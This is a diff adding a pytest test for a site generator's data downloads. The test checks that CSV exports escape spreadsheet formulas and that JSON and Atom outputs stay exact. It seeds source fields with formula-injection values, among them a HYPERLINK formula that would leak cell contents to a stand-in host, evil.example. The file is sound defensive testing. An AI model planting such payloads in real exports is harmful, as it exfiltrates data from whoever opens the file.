@@ -185,3 +185,30 @@ def test_read_errors_are_reported_even_as_root(mini: Path, monkeypatch: pytest.M
     problems = problems_of(mini)
     hits(problems, "events/2002.yaml", "", "cannot read the file: Permission denied")
     hits(problems, "quotes/old", "", "cannot read the folder: Permission denied")
+
+
+# -- downloads -----------------------------------------------------------------------------------
+
+def test_csv_cells_cannot_be_formulas_and_json_stays_exact(mini: Path) -> None:
+    import csv
+    import io
+    import json
+
+    from natoaz.check.validate import load_valid
+    from natoaz.render import render_site
+
+    title = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
+    edit(mini / "sources/news-speech.yaml", "title: Official describes the partnership", f"title: '{title}'")
+    edit(mini / "sources/news-speech.yaml", "author: A. Reporter", "author: '@SUM(1+1)'")
+    edit(mini / "sources/news-speech.yaml", "publisher: Example News", 'publisher: "-2+3"')
+    edit(mini / "sources/mfa-overview.yaml", "title: ", 'title: "\\tTab first "\n# ')
+    files = render_site(load_valid(mini)[0])
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(files["downloads/sources.csv"]))}
+    assert rows["news-speech"]["title"] == "'" + title
+    assert rows["news-speech"]["author"] == "'@SUM(1+1)"
+    assert rows["news-speech"]["publisher"] == "'-2+3"
+    assert rows["mfa-overview"]["title"].startswith("'\t")
+    records = {r["id"]: r for r in json.loads(files["downloads/nato-azerbaijan.json"])["records"]["sources"]}
+    assert records["news-speech"]["title"] == title and records["news-speech"]["publisher"] == "-2+3"
+    assert "source: =HYPERLINK(\"https://evil.example/?\"&amp;A1" in files["feed.xml"]  # Atom: exact, escaped
+    assert "remove that apostrophe" in files["data.md"]
